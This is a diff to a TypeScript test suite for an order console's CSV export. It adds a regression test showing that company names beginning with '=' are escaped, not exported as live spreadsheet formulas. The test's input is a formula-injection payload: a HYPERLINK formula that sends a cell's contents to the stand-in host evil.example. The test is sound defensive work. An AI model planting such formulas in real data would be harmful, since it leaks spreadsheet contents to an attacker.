@@ -22,10 +22,12 @@ describe.each(databaseKinds)('the console fulfilment queue and its commands on %
     wang = await createStaff(seeded.api, ['manager'], { managerId: 'mgr-lujiazui-wang' })
   })
 
-  async function placeInvoiceOrder() {
+  async function placeInvoiceOrder(companyName?: string) {
     seeded.api.setNow(SUNDAY)
     const quote = await createQuote(seeded.api)
-    const response = await postOrder(seeded.api, orderBody(quote.id))
+    const body = orderBody(quote.id)
+    if (companyName) body.company.name = companyName
+    const response = await postOrder(seeded.api, body)
     expect(response.status).toBe(201)
     return (await response.json()) as { number: string; id: string }
   }
@@ -190,5 +192,16 @@ describe.each(databaseKinds)('the console fulfilment queue and its commands on %
     expect(text.split('\n')[0]).toContain('number,status,late')
     expect(text).toContain(first.number)
     expect(text).toContain(second.number)
+  })
+
+  // Found trying the console as staff: the company name went into the CSV as a live Excel formula.
+  it('exports text that a spreadsheet would run as a formula as text', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    const placed = await placeInvoiceOrder(formula)
+    const cookie = await signIn(seeded.api, ops.email)
+    const text = await (await get(cookie, `/api/console/orders/export.csv?q=${placed.number}`)).text()
+    const row = text.split('\n').find((line) => line.startsWith(placed.number))!
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`)
+    expect(row).not.toMatch(/,"?=/)
   })
 })
